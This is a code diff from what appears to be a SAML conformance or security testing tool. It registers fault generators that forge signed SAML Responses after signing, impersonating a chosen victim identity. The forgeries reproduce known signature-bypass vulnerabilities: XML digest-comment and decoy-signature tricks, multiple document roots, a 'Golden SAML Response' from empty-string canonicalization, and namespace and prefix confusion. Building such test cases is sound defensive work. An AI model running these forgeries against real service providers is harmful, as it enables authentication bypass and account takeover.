@@ -13,97 +13,181 @@ from ._common import (
     _assertion_signed,
     _doctype,
     _drop_sig,
-    _flip_sigvalue,
+    _set_signing,
     _iter_tag,
     _victimize,
 )
 
 
-def _digest_comment(root: etree._Element, ctx: FaultContext) -> None:
-    for dv in _iter_tag(_asig(root), q(DS, "DigestValue")):
-        c = etree.Comment("x")
-        c.tail = dv.text
-        dv.text = None
-        dv.append(c)
+def _forge(a: etree._Element, victim: str | None) -> None:
+    """Edit the signed Assertion after signing: its identity becomes `victim`; without one, only
+    whitespace changes (the wrap with unchanged values still alters the signed bytes)."""
+    if victim:
+        _victimize(a, victim)
+    else:
+        iss = a.find(q(SAML, "Issuer"))
+        iss.tail = (iss.tail or "") + "\n"
 
 
-register(Fault("digest-comment", "A comment before the value inside the Assertion signature's DigestValue",
-               ("PDF-07",), signing=_assertion_signed(), signed=_digest_comment))
+def _signed_error_response(ctx: FaultContext) -> etree._Element:
+    """An error Response (Requester, no Assertion) genuinely signed by the IdP: what an attacker
+    obtains by sending the IdP a malformed AuthnRequest (PortSwigger, The Fragile Lock)."""
+    from ..builder import STATUS_REQUESTER, build_status_response
+    from ..signing import sign
+
+    other = build_status_response(issuer=ctx.idp.entity_id, destination=ctx.spec.destination,
+                                  in_response_to=None, status_code=STATUS_REQUESTER)
+    sign(other, other, ctx.signing.key or ctx.idp.key)
+    return other
 
 
-def _trailing(xml: bytes, ctx: FaultContext) -> bytes:
-    body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
-    return xml + b"\n" + body.strip()
+@register_factory("digest-comment",
+                  "CVE-2025-29775 (xml-crypto, SAMLStorm) shape: the signed Assertion edited after signing (victim, or "
+                  "whitespace only) and its new digest hidden in a comment before the original DigestValue: "
+                  "<DigestValue><!--new-->original</DigestValue>; a reader of the first child node sees the new digest, "
+                  "canonicalization (and the SignatureValue) the original",
+                  ("PDF-07", "CVE-2025-29775", "GHSA-x3m8-899r-f7c3"), victim=None)
+def _digest_comment(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        a = _assertion(root)
+        _forge(a, victim)
+        new = _exc_digest(a, ctx.signing.digest)
+        for dv in _iter_tag(_asig(root), q(DS, "DigestValue")):
+            c = etree.Comment(new)
+            c.tail = dv.text
+            dv.text = None
+            dv.append(c)
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
 
 
-register(Fault("trailing-document", "The signed Response followed by a second top-level Response (two roots)",
-               ("PDF-09",), bytes_=_trailing))
+@register_factory("trailing-document",
+                  "CVE-2022-39299 (passport-saml, multiple roots) shape: a genuinely IdP-signed error Response without "
+                  "an Assertion, followed by a second top-level, unsigned Response carrying the Assertion (victim optional)",
+                  ("PDF-09", "CVE-2022-39299", "GHSA-m974-647v-whv7"), victim=None)
+def _trailing(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        _victimize(_assertion(root), victim)
+        ctx.notes["signed_error_response"] = etree.tostring(_signed_error_response(ctx))
 
-
-def _decoy_sig(root: etree._Element, ctx: FaultContext) -> None:
-    decoy = copy.deepcopy(_asig(root))
-    _flip_sigvalue(decoy, ctx)
-    for dv in _iter_tag(decoy, q(DS, "DigestValue")):
-        dv.text = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="
-    ext = etree.Element(q(SAMLP, "Extensions"))
-    ext.append(decoy)
-    root.find(q(SAML, "Issuer")).addnext(ext)
-
-
-register(Fault("decoy-signature", "A decoy ds:Signature (bogus digest) in samlp:Extensions, earlier in the document than the real one",
-               ("PDF-11",), signing=_assertion_signed(), signed=_decoy_sig))
-
-
-@register_factory("namespace-bad-char", "A namespace declaration with an invalid character (U+0080) on the signed Assertion",
-                  ("PDF-06", "CVE-2025-25292"), uri="http://example.com\u0080")
-def _bad_ns(uri: str) -> Fault:
     def b(xml: bytes, ctx: FaultContext) -> bytes:
-        return xml.replace(b"<saml:Assertion ", b'<saml:Assertion xmlns:x="' + uri.encode() + b'" ', 1)
+        decl, body = (xml.split(b"?>", 1)[0] + b"?>\n", xml.split(b"?>", 1)[1].strip()) \
+            if xml.startswith(b"<?xml") else (b"", xml)
+        return decl + ctx.notes["signed_error_response"] + b"\n" + body
 
-    return Fault("", "", signing=_assertion_signed(), bytes_=b)
+    return Fault("", "", signing=_set_signing(sign_response=False, sign_assertion=False), signed=signed, bytes_=b)
 
 
-def _void_c14n(xml: bytes, ctx: FaultContext) -> bytes:
-    xml = xml.replace(b"<samlp:Response ", b'<samlp:Response xmlns:ns="1" ', 1)
+@register_factory("decoy-signature",
+                  "CVE-2024-45409 (ruby-saml, incorrect XPath selector) shape: the signed Assertion edited after signing "
+                  "(victim, or whitespace only); its new digest in a ds:DigestValue inside samlp:Extensions, earlier in the "
+                  "document than the genuine Signature, which is left untouched (a //ds:DigestValue lookup finds the decoy)",
+                  ("PDF-11", "CVE-2024-45409"), victim=None)
+def _decoy_sig(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        a = _assertion(root)
+        _forge(a, victim)
+        ext = etree.Element(q(SAMLP, "Extensions"))
+        etree.SubElement(ext, q(DS, "DigestValue")).text = _exc_digest(a, ctx.signing.digest)
+        root.find(q(SAML, "Issuer")).addnext(ext)
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+
+EMPTY_SHA256 = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="
+
+
+def _golden(xml: bytes, ctx: FaultContext) -> bytes:
+    """Every DigestValue = SHA-256 of the empty string, every SignatureValue = the IdP's RSA-SHA256
+    signature of the empty string: what a verifier whose canonicalization fails into "" computes on
+    both sides (PortSwigger, The Fragile Lock: "Golden SAML Response"; CVE-2025-66568)."""
+    import base64
     import re
 
-    return re.sub(rb"<ds:DigestValue>[^<]*</ds:DigestValue>",
-                  b"<ds:DigestValue>47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=</ds:DigestValue>", xml)
+    from cryptography.hazmat.primitives import hashes, serialization
+    from cryptography.hazmat.primitives.asymmetric import padding
+
+    key = serialization.load_pem_private_key((ctx.signing.key or ctx.idp.key).key_pem, password=None)
+    golden = base64.b64encode(key.sign(b"", padding.PKCS1v15(), hashes.SHA256())).decode()  # type: ignore[union-attr]
+    xml = re.sub(rb"<ds:DigestValue>[^<]*</ds:DigestValue>",
+                 f"<ds:DigestValue>{EMPTY_SHA256}</ds:DigestValue>".encode(), xml)
+    return re.sub(rb"<ds:SignatureValue>[^<]*</ds:SignatureValue>",
+                  f"<ds:SignatureValue>{golden}</ds:SignatureValue>".encode(), xml)
 
 
-register(Fault("void-canonicalization", "Relative namespace URI xmlns:ns=\"1\" on the Response and every DigestValue = SHA-256 of \"\"",
-               ("PDF-05", "Golden SAML Response"), signing=_assertion_signed(), bytes_=_void_c14n))
+@register_factory("namespace-bad-char",
+                  "A namespace declaration with an invalid character (U+0080) on the signed Assertion, which breaks "
+                  "canonicalization; the signature made golden (digest and signature of the empty string, as a verifier "
+                  "whose c14n fails into \"\" computes them); victim optional",
+                  ("PDF-06", "CVE-2025-25292", "CVE-2025-66568"), uri="http://example.com\u0080", victim=None)
+def _bad_ns(uri: str, victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        _victimize(_assertion(root), victim)
+
+    def b(xml: bytes, ctx: FaultContext) -> bytes:
+        xml = xml.replace(b"<saml:Assertion ", b'<saml:Assertion xmlns:x="' + uri.encode() + b'" ', 1)
+        return _golden(xml, ctx)
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed, bytes_=b)
 
 
-def _two_signedinfo(root: etree._Element, ctx: FaultContext) -> None:
-    s = _asig(root)
-    si = _iter_tag(s, q(DS, "SignedInfo"))[0]
-    forged = copy.deepcopy(si)
-    for dv in _iter_tag(forged, q(DS, "DigestValue")):
-        dv.text = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="
-    si.addnext(forged)
+@register_factory("void-canonicalization",
+                  "Golden SAML Response (CVE-2025-66568 shape): relative namespace URI xmlns:ns=\"1\" on the Response "
+                  "(canonicalization fails), every DigestValue = SHA-256 of \"\" and every SignatureValue = the IdP's "
+                  "signature of \"\"; victim optional (the Assertion edited too)",
+                  ("PDF-05", "CVE-2025-66568", "Golden SAML Response"), victim=None)
+def _void_c14n(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        _victimize(_assertion(root), victim)
+
+    def b(xml: bytes, ctx: FaultContext) -> bytes:
+        return _golden(xml.replace(b"<samlp:Response ", b'<samlp:Response xmlns:ns="1" ', 1), ctx)
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed, bytes_=b)
 
 
-register(Fault("two-signedinfo", "A second SignedInfo (other DigestValue) after the real one in the Assertion signature",
-               ("PDF-08",), signing=_assertion_signed(), signed=_two_signedinfo))
+@register_factory("two-signedinfo",
+                  "CVE-2025-29774 (xml-crypto, SAMLStorm) shape: the signed Assertion edited after signing (victim, or "
+                  "whitespace only); a second SignedInfo whose Reference carries the new digest, wrapped in an element "
+                  "placed before the genuine SignedInfo inside the Signature (genuine SignedInfo and SignatureValue kept)",
+                  ("PDF-08", "CVE-2025-29774", "GHSA-9p8x-f768-wp2g", "CVE-2019-3465"), victim=None)
+def _two_signedinfo(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        a = _assertion(root)
+        s = _asig(root)
+        si = _iter_tag(s, q(DS, "SignedInfo"))[0]
+        _forge(a, victim)
+        forged = copy.deepcopy(si)
+        for dv in _iter_tag(forged, q(DS, "DigestValue")):
+            dv.text = _exc_digest(a, ctx.signing.digest)
+        wrapper = etree.Element("{urn:samlconf:decoy}Wrapper", nsmap={"decoy": "urn:samlconf:decoy"})
+        wrapper.append(forged)
+        s.insert(0, wrapper)
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
 
 
-def _pollution(root: etree._Element, ctx: FaultContext) -> None:
-    original = root.get("ID")
-    root.set("ID", "_attack")
-    root.set(q(SAMLP, "ID"), original)
+@register_factory("id-attribute-pollution",
+                  "Response ID changed to _attack and a namespaced samlp:ID carrying the signed ID (the Reference still "
+                  "says #ID); victim optional (the Assertion edited too)",
+                  ("PDF-04",), victim=None)
+def _pollution(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        original = root.get("ID")
+        root.set("ID", "_attack")
+        root.set(q(SAMLP, "ID"), original)
+        a = root.find(q(SAML, "Assertion"))
+        if a is not None:
+            _victimize(a, victim)
 
-
-register(Fault("id-attribute-pollution",
-               "Response ID changed to _attack and a namespaced samlp:ID carrying the signed ID (the Reference still says #ID)",
-               ("PDF-04",), signed=_pollution))
+    return Fault("", "", signed=signed)
 
 
 @register_factory("doctype-roundtrip",
                   "DOCTYPE round-trip differential (ruby-saml CVE-2025-25291 layout): DOCTYPE SYSTEM 'x\"><!--', a forged "
                   "unsigned Response, and inside it a CDATA section holding the genuine signed Response",
-                  ("PDF-01", "CVE-2025-25291"), victim="victim@example.com")
-def _doctype_rt(victim: str) -> Fault:
+                  ("PDF-01", "CVE-2025-25291"), victim=None)
+def _doctype_rt(victim: str | None) -> Fault:
     def b(xml: bytes, ctx: FaultContext) -> bytes:
         original = xml.split(b"?>", 1)[1].strip() if xml.startswith(b"<?xml") else xml
         forged = etree.fromstring(original)
@@ -132,11 +216,11 @@ def _exc_digest(el: etree._Element, digest: str = "sha256") -> str:
 
 
 def _forge_in_place(root: etree._Element, ctx: FaultContext, victim: str | None) -> etree._Element:
-    """Victimize the signed Assertion and fix its DigestValue to the forged content (SignatureValue now stale);
+    """Forge the signed Assertion (`_forge`) and fix its DigestValue to the forged content (SignatureValue now stale);
     return a deep copy of the original, genuine Signature."""
     a = _assertion(root)
     genuine = copy.deepcopy(_asig(root))
-    _victimize(a, victim)
+    _forge(a, victim)
     for dv in _iter_tag(_asig(root), q(DS, "DigestValue")):
         dv.text = _exc_digest(a, ctx.signing.digest)
     return genuine
@@ -154,8 +238,8 @@ def _strip_ns(el: etree._Element) -> etree._Element:
 @register_factory("attlist-namespace-confusion",
                   "DTD ATTLIST giving 'Signature' a #FIXED dsig xmlns; a namespace-less copy of the genuine Signature in "
                   "samlp:StatusDetail; the Assertion forged (victim) with its DigestValue recomputed; a U+0080 namespace",
-                  ("PDF-02", "CVE-2025-25292"), victim="victim@example.com")
-def _attlist(victim: str) -> Fault:
+                  ("PDF-02", "CVE-2025-25292"), victim=None)
+def _attlist(victim: str | None) -> Fault:
     def signed(root: etree._Element, ctx: FaultContext) -> None:
         genuine = _forge_in_place(root, ctx, victim)
         status = root.find(q(SAMLP, "Status"))
@@ -173,8 +257,8 @@ def _attlist(victim: str) -> Fault:
 @register_factory("xml-xmlns-confusion",
                   "The genuine Assertion Signature hidden in samlp:Extensions under <Parent xmlns=dsig><Child xml:xmlns=\"#other\">; "
                   "the Assertion forged (victim) keeping a fake Signature with a recomputed DigestValue",
-                  ("PDF-03", "PDF-12", "CVE-2025-66567"), victim="victim@example.com")
-def _xml_xmlns(victim: str) -> Fault:
+                  ("PDF-03", "PDF-12", "CVE-2025-66567"), victim=None)
+def _xml_xmlns(victim: str | None) -> Fault:
     def signed(root: etree._Element, ctx: FaultContext) -> None:
         genuine = _forge_in_place(root, ctx, victim)
         ext = etree.Element(q(SAMLP, "Extensions"))
@@ -185,3 +269,54 @@ def _xml_xmlns(victim: str) -> Fault:
         root.find(q(SAML, "Issuer")).addnext(ext)
 
     return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+
+@register_factory("prefix-rebinding",
+                  "The 'ds' prefix bound to a non-dsig namespace: the Assertion forged (victim, or whitespace only) "
+                  "keeping a Signature with a recomputed DigestValue whose ds prefix means urn:samlconf:not-dsig, "
+                  "and the genuine (ds = dsig) Signature in samlp:Extensions: only a namespace-aware lookup tells them apart",
+                  ("PDF-12", "CVE-2025-66567"), victim=None)
+def _prefix_rebinding(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        genuine = _forge_in_place(root, ctx, victim)
+        fake = _asig(root)
+        rebound = etree.Element("{urn:samlconf:not-dsig}Signature", nsmap={"ds": "urn:samlconf:not-dsig"})
+        for c in fake:
+            rebound.append(_rename_ns(c, DS, "urn:samlconf:not-dsig"))
+        fake.addprevious(rebound)
+        fake.getparent().remove(fake)
+        ext = etree.Element(q(SAMLP, "Extensions"))
+        ext.append(genuine)  # unchanged (its SignedInfo is signed with the ds prefix)
+        root.find(q(SAML, "Issuer")).addnext(ext)
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+
+def _rename_ns(el: etree._Element, old: str, new: str) -> etree._Element:
+    q_ = etree.QName(el)
+    out = etree.Element(f"{{{new}}}{q_.localname}" if q_.namespace == old else el.tag, dict(el.attrib))
+    out.text, out.tail = el.text, el.tail
+    for c in el:
+        if isinstance(c.tag, str):
+            out.append(_rename_ns(c, old, new))
+    return out
+
+
+def _inject_extensions(xml: bytes, payload: bytes) -> bytes:
+    """`payload` inside a samlp:Extensions right after the Response's Issuer (outside the signed Assertion)."""
+    end = xml.index(b"</saml:Issuer>") + len(b"</saml:Issuer>")
+    return xml[:end] + b"<samlp:Extensions>" + payload + b"</samlp:Extensions>" + xml[end:]
+
+
+register(Fault("roundtrip-unstable",
+               "A serialize/re-parse unstable construct from the Go encoding/xml round-trip corpus (a QName with an "
+               "empty local prefix, x::Elem) in samlp:Extensions, outside the (valid) Assertion signature",
+               ("PDF-10", "CVE-2020-29509", "CVE-2020-29511", "CVE-2020-27846"), signing=_assertion_signed(),
+               bytes_=lambda xml, ctx: _inject_extensions(
+                   xml, b'<x::Elem xmlns:x="urn:samlconf:roundtrip" x::attr="1"/>')))
+register(Fault("recoverable-markup",
+               "Malformed but recoverable XML (a duplicated attribute, an undefined entity) in samlp:Extensions, "
+               "outside the (valid) Assertion signature: a recovering parser (Nokogiri's default) fixes it up",
+               ("PDF-13", "CVE-2025-25291", "CVE-2025-25292"), signing=_assertion_signed(),
+               bytes_=lambda xml, ctx: _inject_extensions(
+                   xml, b'<decoy:Bad xmlns:decoy="urn:samlconf:decoy" a="1" a="2">x &nbsp; y</decoy:Bad>')))
